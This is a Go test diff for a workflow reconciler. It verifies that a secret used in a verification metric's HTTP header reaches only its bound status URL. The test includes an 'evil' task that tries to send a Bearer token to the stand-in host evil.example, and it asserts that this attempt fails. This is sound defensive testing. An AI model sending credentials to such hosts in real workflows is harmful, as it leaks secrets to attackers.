@@ -73,3 +73,63 @@ func TestWorkflowSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
 	}
 	require.True(t, found, "the evil task ran")
 }
+
+// probeLog is an http verifier that records the headers it was given, by
+// URL.
+type probeLog struct {
+	mu      sync.Mutex
+	headers map[string]any
+}
+
+func (*probeLog) Type() string { return "http" }
+
+func (p *probeLog) Measure(_ context.Context, r ports.MeasureRequest) (any, error) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	url, _ := r.Metric.Provider.Config["url"].(string)
+	p.headers[url] = r.Metric.Provider.Config["headers"]
+	return map[string]any{"status": 200.0}, nil
+}
+
+// TestWorkflowVerificationSecretsGoOnlyToTheirBoundDestination: a
+// verification metric's revealed secret goes to its provider's url only
+// when bound there; the other metric's task fails naming the flag.
+func TestWorkflowVerificationSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
+	t.Parallel()
+	ctx := t.Context()
+	c, eng, clock := setupController(t, stores["memory"])
+	probes := &probeLog{headers: map[string]any{}}
+	policy, err := secretdest.Parse("env:RECONCILER_SECRET_HOOK=https://status.example")
+	require.NoError(t, err)
+	c.Verifiers = map[string]ports.Verifier{"http": probes}
+	c.Secrets = secretdest.Resolver{Next: configmap.Secrets{"env:RECONCILER_SECRET_HOOK": "s3cret"}, Policy: policy}
+	metric := func(url string) string {
+		return `{"name":"m","successCondition":"result.status == 200","provider":{"type":"http","url":"` + url +
+			`","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}}`
+	}
+	tmpl := `{"apiVersion":"reconciler.dev/v1","kind":"WorkflowTemplate","metadata":{"name":"t"},"spec":{"tasks":[
+		{"name":"bound","type":"verification","verification":{"metrics":[` + metric("https://status.example/health") + `]}},
+		{"name":"evil","type":"verification","verification":{"metrics":[` + metric("https://evil.example/x") + `]}}]}}`
+	_, err = c.Start(ctx, flow.StartParams{ID: "w", Template: []byte(tmpl),
+		Variables: map[string]release.Value{"TOKEN": {Sensitive: &release.SecretRef{Ref: "env:RECONCILER_SECRET_HOOK"}}}})
+	require.NoError(t, err)
+	for range 10 {
+		_, err = eng.Drain(ctx)
+		require.NoError(t, err)
+		clock.Advance(time.Minute)
+	}
+	st, err := c.Status(ctx, "w")
+	require.NoError(t, err)
+	probes.mu.Lock()
+	defer probes.mu.Unlock()
+	require.Equal(t, map[string]any{"Authorization": "Bearer s3cret"}, probes.headers["https://status.example/health"])
+	require.NotContains(t, probes.headers, "https://evil.example/x")
+	phases := map[string]workflow.TaskPhase{}
+	for _, r := range st.TaskRuns {
+		phases[r.Task] = r.Phase
+		if r.Task == "evil" {
+			require.Contains(t, r.Message, "--secret-destination")
+		}
+	}
+	require.Equal(t, map[string]workflow.TaskPhase{"bound": workflow.TaskSucceeded, "evil": workflow.TaskFailed}, phases)
+}
